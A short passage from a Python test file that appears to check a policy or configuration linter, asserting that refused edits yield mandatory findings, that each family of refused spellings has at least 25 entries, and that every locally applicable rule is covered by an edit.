        found = check(edited, config_of(refused.stack), [BY_NAME[refused.rule]]).findings
        assert found, edit
        assert all(finding.level is Level.MANDATORY for finding in found), edit


def test_there_are_many_spellings_of_each_kind() -> None:
    families = (PODS, PROGRAMS, NETWORK, EDGE, RIGHTS, CLOUD)
    assert all(len(family) >= 25 for family in families)
    assert len(REFUSED) >= 250


def test_every_rule_about_what_runs_here_has_an_edit() -> None:
    elsewhere = ("dynamodb-", "s3-", "iam-", "kms-", "elasticache-", "aws-", "bigtable-", "emulator-in-cloud")
    here = {name for name in BY_NAME if not name.startswith(elsewhere)} - {"rbac-wildcards"}
    assert here <= set(EDITS) | {refused.rule for refused in REFUSED}
